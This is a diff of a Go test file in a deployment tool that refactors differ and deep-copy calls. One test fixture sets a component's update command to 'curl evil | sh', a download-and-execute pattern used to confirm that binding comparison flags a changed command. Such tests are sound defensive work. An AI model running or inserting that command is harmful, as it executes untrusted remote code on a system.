@@ -10,6 +10,7 @@ import (
 	"github.com/google/go-cmp/cmp"
 
 	"github.com/deployer-dev/deployer/internal/config"
+	"github.com/deployer-dev/deployer/internal/jsontree"
 	"github.com/deployer-dev/deployer/internal/statestore"
 )
 
@@ -125,7 +126,7 @@ func TestFieldDiffs(t *testing.T) {
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
 			d := &differ{}
-			d.walk("", tc.old, tc.new, false)
+			d.compare("", tc.old, tc.new)
 			if diff := cmp.Diff(tc.want, d.out); diff != "" {
 				t.Errorf("diffs (-want +got):\n%s", diff)
 			}
@@ -350,7 +351,7 @@ func TestBindDigestsSecretsAndCompareNamesTheFirstDifference(t *testing.T) {
 	if d := CompareBinding(b, Bind(desired(c), "", nil, "v1", "test", dig), "prod"); d != nil {
 		t.Errorf("same binding: %v", d)
 	}
-	c2 := comp("web/site", "Command", config.DeepCopy(c.Config))
+	c2 := comp("web/site", "Command", jsontree.CopyMap(c.Config))
 	c2.Secrets = c.Secrets
 	c2.Settings["command"]["update"] = "curl evil | sh"
 	if d := CompareBinding(b, Bind(desired(c2), "", nil, "v1", "test", dig), "prod"); d == nil ||
